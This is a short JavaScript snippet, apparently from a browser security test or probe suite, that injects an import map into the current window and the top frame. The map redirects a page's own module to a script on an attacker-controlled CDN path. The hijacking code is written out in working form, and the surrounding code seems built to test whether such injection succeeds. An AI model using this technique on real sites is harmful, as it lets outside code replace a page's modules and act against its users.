// Tries: map a module of the page's own to a script of the attacker's.
(() => {
  for (const view of [window, top]) {
    attempt(() => {
      const map = view.document.createElement("script");
      map.type = "importmap";
      map.textContent = JSON.stringify({ imports: { letters: `${CDN}/attacks/false-letters.js` } });
      view.document.head.append(map);
    });
  }
  over("map-imports");
})();
